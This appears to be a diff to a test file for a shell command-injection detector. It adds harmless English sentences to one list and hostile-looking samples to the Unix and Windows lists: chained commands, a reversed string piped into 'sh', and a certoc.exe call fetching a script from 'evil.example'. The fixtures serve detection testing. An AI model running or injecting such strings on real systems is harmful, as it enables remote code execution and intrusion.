@@ -35,6 +35,8 @@ test("what English and shells share is looked at more eagerly at a paranoia of 2
 });
 
 const honest = [
+  "we use ansible-vault and certoc for it; pktmon helps too",
+  "compare; diff; highlight",
   "I'd like to ping you; thanks",
   "hello; time he came",
   "cats & dogs; find us at noon",
@@ -76,6 +78,13 @@ const quoted = [
 ];
 
 const unix = [
+  "ansible-config dump",
+  "1 && jshell",
+  "x|ncftp",
+  "a; unxz -c /var/log/a.xz",
+  "printf dwssap | rev | sh",
+  "a=usr/bin/unxz",
+  "math=$[]",
   ";id",
   "||id",
   "127.0.0.1;id",
@@ -219,6 +228,10 @@ const unix = [
 ];
 
 const windows = [
+  "1 & pktmon.exe filter add -p 445",
+  "x|winget install tool -s msstore",
+  "certoc.exe -GetCACAPS http://evil.example/a.ps1",
+  "& for %[ in (a,b) do cmd",
   'FOR /D %%G in ("User*") DO Echo We found %%~nxG',
   "FOR /R C:\\temp\\ %%G IN (*.bak) do Echo %%G",
   'FOR /F "tokens=1,3 delims=," %%G IN (weather.txt) DO @echo',
